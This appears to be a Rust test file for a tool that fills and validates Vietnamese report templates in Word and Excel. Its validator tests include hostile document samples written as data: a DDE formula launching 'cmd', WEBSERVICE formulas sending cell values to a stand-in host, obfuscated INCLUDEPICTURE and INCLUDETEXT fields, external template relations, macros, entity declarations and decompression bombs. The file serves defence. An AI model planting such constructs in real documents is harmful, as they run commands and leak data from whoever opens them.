//! Forms as recipients send them, filled with the sample's figures; and files that are no forms.

use rust_xlsxwriter::{Format, Workbook};

use super::super::package::packed;
use super::super::sample::{nothing, sample};
use super::super::tests::{input, reference};
use super::super::unpacked::parts;
use super::{Fault, FormKind, Names, Registers, blank, check, fill, names_of};
use crate::domain::summary::cells;

fn registers() -> Registers {
    Registers {
        units: vec![("VP".to_owned(), "Văn phòng".to_owned())],
        fields: vec!["Đất đai".to_owned()],
        places: vec![("causes".to_owned(), "Nguyên nhân".to_owned())],
    }
}

fn names() -> Names {
    let (summary, wording) = (sample(), reference());
    names_of(&input(&summary, &wording, true), &registers(), "BC-2024-001")
}

const WORD: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const DOCUMENT: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

fn types(main: &str, extra: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
         <Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/word/document.xml\" ContentType=\"{main}\"/>{extra}</Types>"
    )
}

/// A document with these paragraphs and parts.
fn docx(body: &str, more: &[(&str, String)]) -> Vec<u8> {
    let document =
        format!("<?xml version=\"1.0\"?><w:document xmlns:w=\"{WORD}\"><w:body>{body}</w:body></w:document>");
    let mut all = vec![("[Content_Types].xml", types(DOCUMENT, "")), ("word/document.xml", document)];
    all.extend(more.iter().map(|(name, text)| (*name, text.clone())));
    packed(&all)
}

fn runs(texts: &[&str]) -> String {
    let run = |text: &&str| format!("<w:r><w:rPr><w:b/></w:rPr><w:t>{text}</w:t></w:r>");
    format!("<w:p>{}</w:p>", texts.iter().map(run).collect::<Vec<_>>().join("<w:proofErr/>"))
}

fn filled_body(body: &str) -> String {
    let filled = fill(&docx(body, &[]), &names()).expect("it is filled");
    let document = parts(&filled).remove("word/document.xml").expect("the body");
    document
        .split_once("<w:body>")
        .and_then(|(_, rest)| rest.rsplit_once("</w:body>"))
        .expect("a body")
        .0
        .to_owned()
}

/// Why a form is refused, by its reasons.
fn refused(bytes: &[u8]) -> Vec<Fault> {
    check(bytes, &blank(&registers())).expect_err("it is refused")
}

fn reason(bytes: &[u8]) -> &'static str {
    refused(bytes)[0].reason
}

#[test]
fn a_placeholder_may_be_split_over_runs_and_keeps_their_looks() {
    let said = filled_body(&runs(&[
        "Tiếp nhận {",
        "{groups/specialised_",
        "agencies/dossiers/received_total",
        "}} hồ sơ; {{ total/dossiers/withdrawn }}",
    ]));
    assert!(
        said.contains("<w:rPr><w:b/></w:rPr><w:t xml:space=\"preserve\">Tiếp nhận 1.320</w:t>"),
        "{said}"
    );
    assert!(said.contains(" hồ sơ; 0</w:t>"), "{said}");
    assert_eq!(said.matches("<w:proofErr/>").count(), 3, "what isn't text stays: {said}");
}

#[test]
fn numbers_are_worded_as_asked_for() {
    let said = filled_body(&runs(&[
        "{{groups/communes/dossiers/resolved_late}}|{{groups/communes/dossiers/resolved_late | 00}}|\
         {{groups/communes/dossiers/resolved|raw}}|{{groups/communes/not_late/percent}}|\
         {{groups/communes/not_late/percent|raw}}|{{groups/communes/not_late/share|raw}}|\
         {{groups/land_registry_branch/online_full/percent}}",
    ]));
    assert!(said.contains(">8|08|14909|99,95%|99.95|0.9995|-<"), "{said}");
}

#[test]
fn sentences_of_several_paragraphs_repeat_theirs_and_break_lines_elsewhere() {
    let said = filled_body(&(runs(&["{{say/dossiers}}"]) + &runs(&["Cụ thể: {{say/dossiers}}"])));
    assert_eq!(said.matches("<w:p>").count(), 4, "{said}");
    assert_eq!(said.matches("<w:br/>").count(), 2, "{said}");
    assert!(said.contains("Các cơ quan chuyên môn của UBND thị xã: Đã tiếp nhận 1.320 hồ sơ"), "{said}");
}

#[test]
fn a_table_row_is_repeated_for_each_item() {
    let cell = |text: &str| format!("<w:tc>{}</w:tc>", runs(&[text]));
    let row = |cells: &[&str]| {
        format!("<w:tr w:rsidR=\"1\">{}</w:tr>", cells.iter().map(|text| cell(text)).collect::<String>())
    };
    let table = format!(
        "<w:tbl>{}{}{}</w:tbl>",
        row(&["STT", "Nhóm", "Đã giải quyết"]),
        row(&["{{group.no}}", "{{group.name}}", "{{group.dossiers/resolved}}"]),
        row(&["", "Tổng", "{{total/dossiers/resolved}}"]),
    );
    let said = filled_body(&table);
    assert_eq!(said.matches("<w:tr w:rsidR=\"1\">").count(), 5, "{said}");
    for words in [">1<", ">Các xã, phường<", ">14.909<", ">3<", ">6.338<"] {
        assert!(said.contains(words), "{words}: {said}");
    }
    // A list without items leaves its row, with nothing in it.
    let said =
        filled_body(&format!("<w:tbl>{}</w:tbl>", row(&["{{field.name}}", "{{field.dossiers/resolved}}"])));
    assert_eq!((said.matches("<w:tr").count(), said.contains("{{")), (1, false), "{said}");
}

#[test]
fn headers_and_footers_are_filled_and_text_is_escaped() {
    let header =
        format!("<w:hdr xmlns:w=\"{WORD}\">{}</w:hdr>", runs(&["A &amp; B &#60; {{report/office}}"]));
    let form = docx(&runs(&["Không có gì"]), &[("word/header1.xml", header)]);
    assert_eq!(check(&form, &blank(&registers())), Ok((FormKind::Docx, 1)));
    let filled = fill(&form, &names()).expect("it is filled");
    let header = &parts(&filled)["word/header1.xml"];
    assert!(header.contains("A &amp; B &lt; Văn phòng HĐND và UBND thị xã</w:t>"), "{header}");
    assert_eq!(filled, fill(&form, &names()).expect("again"), "the same bytes each time");
}

#[test]
fn every_cell_that_is_frozen_has_a_name_and_a_cell_name() {
    let (summary, wording) = (sample(), reference());
    let names = names_of(&input(&summary, &wording, true), &registers(), "BC-2024-001");
    let blank = blank(&registers());
    for cell in cells::cells(&summary).keys().filter(|cell| !cell.starts_with("documents/")) {
        assert!(blank.single(cell).is_some() || cell.starts_with("CNVPDK/"), "{cell}");
    }
    let lines = names.lines();
    let line = |name: &str| lines.iter().find(|line| line.name == name).unwrap_or_else(|| panic!("{name}"));
    let rate = line("online_overall/percent");
    assert_eq!((rate.value.as_str(), rate.raw.as_str()), ("99,91%", "99.91"));
    assert_eq!(line("fields/Đất đai/dossiers/resolved").cell_name, "bonro_fields_Đất_đai_dossiers_resolved");
    assert_eq!(line("group.name").items, Some(3));
    let untold = lines.iter().filter(|line| line.meaning.is_empty()).map(|line| line.name.as_str());
    let untold: Vec<&str> =
        untold.filter(|name| !name.starts_with("CNVPDK/") && !name.starts_with("place/")).collect();
    assert_eq!(untold, Vec::<&str>::new());
    assert!(
        names_of(&input(&nothing(), &wording, false), &registers(), "")
            .single("total/dossiers/resolved")
            .is_some()
    );
}

#[test]
fn what_a_form_names_must_be_there() {
    let faults = refused(&docx(&runs(&["Đã xử lý {{total/dossiers/resolvd}} hồ sơ"]), &[]));
    assert_eq!(faults[0].reason, "UNKNOWN_NAME");
    assert!(faults[0].vi.contains("thân văn bản / body, đoạn “Đã xử lý"), "{faults:?}");
    assert!(faults[0].vi.contains("gần giống: total/dossiers/resolved"), "{faults:?}");
    assert_eq!(reason(&docx(&runs(&["{{total/dossiers/resolved"]), &[])), "BAD_PLACEHOLDER");
    assert_eq!(reason(&docx(&runs(&["{{total/dossiers/resolved | chữ}}"]), &[])), "BAD_PLACEHOLDER");
    assert_eq!(reason(&docx(&runs(&["{{unit.name}}"]), &[])), "NO_ROW");
    let two = format!("<w:tbl><w:tr><w:tc>{}</w:tc></w:tr></w:tbl>", runs(&["{{unit.name}} {{field.name}}"]));
    assert_eq!(reason(&docx(&two, &[])), "TWO_LISTS");
    assert_eq!(reason(&docx(&runs(&["Không có chỗ điền"]), &[])), "NOTHING_TO_FILL");
    // All of it at once.
    assert_eq!(refused(&docx(&(runs(&["{{a}}"]) + &runs(&["{{b}}"])), &[])).len(), 2);
}

#[test]
fn a_file_that_acts_or_is_no_form_is_refused() {
    assert_eq!(reason(b"no archive"), "NOT_A_FORM");
    assert_eq!(reason(&[0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), "OLD_OR_ENCRYPTED");
    assert_eq!(reason(&packed(&[("a.txt", "x".to_owned())])), "NOT_A_FORM");
    let body = runs(&["{{total/dossiers/resolved}}"]);
    assert_eq!(reason(&docx(&body, &[("word/vbaProject.bin", String::new())])), "FORBIDDEN_CONTENT");
    let macros = "application/vnd.ms-word.document.macroEnabled.main+xml";
    let enabled = packed(&[("[Content_Types].xml", types(macros, "")), ("word/document.xml", String::new())]);
    assert_eq!(reason(&enabled), "FORBIDDEN_CONTENT");
    let relation = |kind: &str| {
        format!(
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" \
             Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" Target=\"http://x.example/a\" TargetMode=\"External\"/></Relationships>"
        )
    };
    let rels = "word/_rels/document.xml.rels";
    assert_eq!(reason(&docx(&body, &[(rels, relation("attachedTemplate"))])), "FORBIDDEN_CONTENT");
    assert!(check(&docx(&body, &[(rels, relation("hyperlink"))]), &blank(&registers())).is_ok());
    let field = "<w:p><w:r><w:instrText> INCLUDETEXT \"c:\\a\" </w:instrText></w:r></w:p>";
    assert_eq!(reason(&docx(&(body.clone() + field), &[])), "FORBIDDEN_CONTENT");
    // Entities of its own, elements without end, and more than is unpacked.
    let with = |document: &str| {
        packed(&[("[Content_Types].xml", types(DOCUMENT, "")), ("word/document.xml", document.to_owned())])
    };
    assert_eq!(reason(&with("<!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>")), "NOT_A_FORM");
    assert_eq!(reason(&with("<a>&b;</a>")), "NOT_A_FORM");
    assert_eq!(reason(&with(&"<a>".repeat(100_000))), "NOT_A_FORM");
    let bomb = "0".repeat(65 * 1024 * 1024);
    assert_eq!(reason(&docx(&body, &[("word/media/a.bin", bomb)])), "TOO_LARGE");
    let many: Vec<(String, String)> = (0..1001).map(|n| (format!("a{n}"), String::new())).collect();
    let many: Vec<(&str, String)> = many.iter().map(|(name, text)| (name.as_str(), text.clone())).collect();
    assert_eq!(reason(&packed(&many)), "TOO_LARGE");
}

/// A workbook with a figure, a share, a text, rows for the groups and a formula over them.
fn xlsx(define: &[(&str, &str)]) -> Vec<u8> {
    let mut workbook = Workbook::new();
    let share = Format::new().set_num_format("0.00%");
    let sheet = workbook.add_worksheet().set_name("Biểu 1").expect("a name");
    sheet.write_string(0, 0, "Kỳ báo cáo").expect("it is written");
    sheet.write_blank(1, 3, &share).expect("it is written");
    sheet.write_formula(9, 1, "=SUM(B5:B9)").expect("it is written");
    sheet.write_formula(10, 1, "=B2/1000").expect("it is written");
    for (name, place) in define {
        workbook.define_name(*name, &format!("='Biểu 1'!{place}")).expect("a name");
    }
    workbook.save_to_buffer().expect("it is saved")
}

const DEFINED: [(&str, &str); 6] = [
    ("bonro_total_dossiers_received_total", "$B$2"),
    ("Bonro_Groups_Communes_Not_Late_Share", "$D$2"),
    ("bonro_period_range", "$B$1"),
    ("bonro_group_name", "$A$5:$A$9"),
    ("bonro_group_dossiers_resolved", "$B$5:$B$9"),
    ("TyLe", "$B$2"),
];

#[test]
fn named_cells_are_filled_with_numbers_and_keep_their_style() {
    let form = xlsx(&DEFINED);
    assert_eq!(check(&form, &blank(&registers())), Ok((FormKind::Xlsx, 5)));
    let filled = fill(&form, &names()).expect("it is filled");
    let parts = parts(&filled);
    let (sheet, workbook) = (&parts["xl/worksheets/sheet1.xml"], &parts["xl/workbook.xml"]);
    assert!(sheet.contains("<c r=\"D2\" s=\"1\"><v>0.9995</v></c>"), "{sheet}");
    assert!(sheet.contains("<t xml:space=\"preserve\">từ ngày 15/12/2023 đến ngày 15/5/2024</t>"), "{sheet}");
    assert!(sheet.contains("<c r=\"B6\"><v>14909</v></c>"), "{sheet}");
    assert!(sheet.contains("<c r=\"B10\"><f>SUM(B5:B9)</f></c>"), "what it came to is forgotten: {sheet}");
    for (row, hidden) in [("7", false), ("8", true), ("9", true)] {
        let is_hidden = sheet.contains(&format!("<row hidden=\"1\" r=\"{row}\">"));
        assert_eq!(is_hidden, hidden, "{row}: {sheet}");
    }
    assert!(workbook.contains("fullCalcOnLoad=\"1\"") && workbook.contains("TyLe"), "{workbook}");
}

#[test]
fn what_a_workbook_names_must_be_there_and_have_room() {
    let one = |name: &str, place: &str| refused(&xlsx(&[(name, place)])).remove(0);
    let unknown = one("bonro_total_dossiers_resolvd", "$B$2");
    assert_eq!(unknown.reason, "UNKNOWN_NAME");
    assert!(unknown.vi.contains("'Biểu 1'!$B$2"), "{unknown:?}");
    assert!(unknown.vi.contains("gần giống: bonro_total_dossiers_resolved"), "{unknown:?}");
    assert_eq!(one("bonro_total_dossiers_resolved", "$B$10").reason, "FORMULA_THERE");
    assert_eq!(one("bonro_group_name", "$A$5:$B$9").reason, "BAD_LIST_RANGE");
    let clash = xlsx(&[("bonro_group_name", "$A$5:$A$9"), ("bonro_group_code", "$B$5:$B$8")]);
    assert_eq!(reason(&clash), "CLASHING_LISTS");
    let narrow = xlsx(&[("bonro_group_name", "$A$5:$A$6")]);
    assert!(check(&narrow, &blank(&registers())).is_ok());
    let faults = fill(&narrow, &names()).expect_err("three groups, two rows");
    assert_eq!(faults[0].reason, "TOO_FEW_ROWS");
    assert!(faults[0].vi.contains("cần 3 dòng, các dòng 5–6 chỉ có 2"), "{faults:?}");
}

fn forbidden(bytes: &[u8]) {
    assert_eq!(refused(bytes)[0].reason, "FORBIDDEN_CONTENT", "{:?}", refused(bytes));
}

#[test]
fn a_field_that_fetches_is_found_however_it_is_written() {
    let good = runs(&["{{total/dossiers/resolved}}"]);
    let mark = |kind: &str| format!("<w:r><w:fldChar w:fldCharType=\"{kind}\"/></w:r>");
    let say = |text: &str| format!("<w:r><w:instrText>{text}</w:instrText></w:r>");
    let field = |said: &[String]| {
        let shown = "<w:r><w:t>x</w:t></w:r>";
        format!("{}{}{}{shown}{}", mark("begin"), said.concat(), mark("separate"), mark("end"))
    };
    let in_paragraphs = |inside: &str| format!("<w:p>{inside}</w:p>");
    let split = field(&[say(" INCLUDE"), say("PICTURE \"http://x.example/a\"")]);
    forbidden(&docx(&(good.clone() + &in_paragraphs(&split)), &[]));
    let apart = field(&[say("IMP"), "</w:p><w:p>".to_owned(), say("ORT \"http://x.example/a\"")]);
    forbidden(&docx(&(good.clone() + &in_paragraphs(&apart)), &[]));
    forbidden(&docx(&(good.clone() + &in_paragraphs(&field(&[say("DATABASE \\d \"x\"")]))), &[]));
    let reckoned = field(&[say("INC"), field(&[say("QUOTE LUDETEXT")]), say(" \"http://x.example/a\"")]);
    forbidden(&docx(&(good.clone() + &in_paragraphs(&reckoned)), &[]));
    let within = field(&[say(" IF "), field(&[say(" INCLUDETEXT \"a\" ")]), say(" = 1 \"\" \"\" ")]);
    forbidden(&docx(&(good.clone() + &in_paragraphs(&within)), &[]));
    // In whatever part, and however that is coded.
    let comments = format!("<w:comments xmlns:w=\"{WORD}\">{}</w:comments>", in_paragraphs(&split));
    forbidden(&docx(&good, &[("word/notes/of-mine.bin", comments)]));
    // What shows is taken: the page's number, of pages, and one reckoned of them.
    let shows = [
        field(&[say(" PAGE ")]),
        field(&[say("="), field(&[say("NUMPAGES")]), say("-1")]),
        field(&[say(" HYPERLINK \"http://x.example/import link\" ")]),
    ];
    assert!(check(&docx(&(good + &in_paragraphs(&shows.concat())), &[]), &blank(&registers())).is_ok());
}

#[test]
fn embedded_files_and_what_reaches_out_are_told_by_what_they_are() {
    let good = runs(&["{{total/dossiers/resolved}}"]);
    let relation = |kind: &str, target: &str| {
        format!(
            "<Relationships><Relationship Id=\"r1\" Type=\"http://x/relationships/{kind}\" Target=\"{target}\"/></Relationships>"
        )
    };
    let rels = "word/_rels/document.xml.rels";
    for kind in ["oleObject", "aFChunk", "package", "subDocument", "control"] {
        forbidden(&docx(&good, &[(rels, relation(kind, "a.bin"))]));
    }
    let of_chart = [("word/charts/_rels/chart1.xml.rels", relation("package", "../embeddings/a.xlsx"))];
    assert!(check(&docx(&good, &of_chart), &blank(&registers())).is_ok());
    for bad in
        ["<w:altChunk/>", "<w:object><o:OLEObject/></w:object>", "<v:imagedata src=\"http://x/a.png\"/>"]
    {
        forbidden(&docx(&(good.clone() + bad), &[]));
    }
    let link = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml";
    let extra = format!("<Override PartName=\"/word/a.xml\" ContentType=\"{link}\"/>");
    let document = format!("<w:document xmlns:w=\"{WORD}\"><w:body>{good}</w:body></w:document>");
    let with = |extra: &str, name, text: &str| {
        let (types, text) = (types(DOCUMENT, extra), text.to_owned());
        packed(&[("[Content_Types].xml", types), ("word/document.xml", document.clone()), (name, text)])
    };
    forbidden(&with(&extra, "word/b.xml", "<a/>"));
    let svg = "<Default Extension=\"svg\" ContentType=\"image/svg+xml\"/>";
    assert!(check(&with(svg, "word/a.svg", "<!DOCTYPE svg><svg/>"), &blank(&registers())).is_ok());
    forbidden(&with(svg, "word/a.svg", "<altChunk/>"));
}

#[test]
fn a_formula_that_fetches_is_refused() {
    let with = |formula: &str| {
        let form = parts(&xlsx(&DEFINED));
        let all: Vec<(&str, String)> = form
            .iter()
            .map(|(name, text)| (name.as_str(), text.replace("<f>B2/1000</f>", &format!("<f>{formula}</f>"))))
            .collect();
        packed(&all)
    };
    for bad in [
        "_xlfn.WEBSERVICE(\"http://x.example/\"&amp;B5)",
        "SUM(1,_xlfn.image (A1))",
        "MAP(A1:A3,_xleta.WEBSERVICE)",
        "RTD(\"a\",,\"b\")",
        "cmd|'/c calc'!A0",
    ] {
        forbidden(&with(bad));
    }
    for good in
        ["IF(A1=\"WEBSERVICE(|)\",'RTD 1'!B2,Image!B2)", "HYPERLINK(\"http://x.example/\",\"x\")", "$DDE$5+1"]
    {
        assert!(check(&with(good), &blank(&registers())).is_ok(), "{good}");
    }
}

#[test]
fn what_unfolds_to_too_much_is_refused_when_it_is_put() {
    let good = runs(&["{{total/dossiers/resolved}}"]);
    assert_eq!(reason(&docx(&(good.clone() + &"<a/>".repeat(600_000)), &[])), "TOO_LARGE");
    let attributes = (0..300).map(|n| format!(" a{n}=\"\"")).collect::<Vec<_>>().concat();
    assert_eq!(reason(&docx(&format!("{good}<a{attributes}/>"), &[])), "TOO_LARGE");
    // A row of some thousand nodes, before anybody knows how long its list will be.
    let row = |nodes: usize| {
        let cells = runs(&["{{unit.name}}"]) + &"<a/>".repeat(nodes);
        docx(&format!("<w:tbl><w:tr><w:tc>{cells}</w:tc></w:tr></w:tbl>"), &[])
    };
    assert!(check(&row(1000), &blank(&registers())).is_ok());
    assert_eq!(reason(&row(10_000)), "TOO_LARGE");
    assert_eq!(reason(&docx(&runs(&["{{say/dossiers}}".repeat(300_000).as_str()]), &[])), "TOO_LARGE");
    // Names that aren't there are told up to a number.
    assert_eq!(refused(&docx(&runs(&["{{a}}"]).repeat(1000), &[])).len(), 50);
}

#[test]
fn what_signing_brings_has_no_name_and_stays_empty_in_forms_of_earlier_days() {
    for name in ["report/number", "report/dated", "report/dated_on", "report/signer", "report/signer_title"] {
        let faults = refused(&docx(&runs(&[&format!("Số {{{{{name}}}}}")]), &[]));
        assert_eq!(faults[0].reason, "KNOWN_AT_SIGNING", "{faults:?}");
        assert!(names().lines().iter().all(|line| line.name != name), "{name}");
    }
    let said = filled_body(&runs(&["Số {{report/number}}, {{place/of_another_form}}."]));
    assert!(said.contains(">Số , .<"), "{said}");
    assert_eq!(reason(&docx(&runs(&["{{place/of_another_form}}"]), &[])), "UNKNOWN_NAME");
    assert_eq!(
        fill(&docx(&runs(&["{{report/nothing}}"]), &[]), &names()).expect_err("none")[0].reason,
        "UNKNOWN_NAME"
    );
}
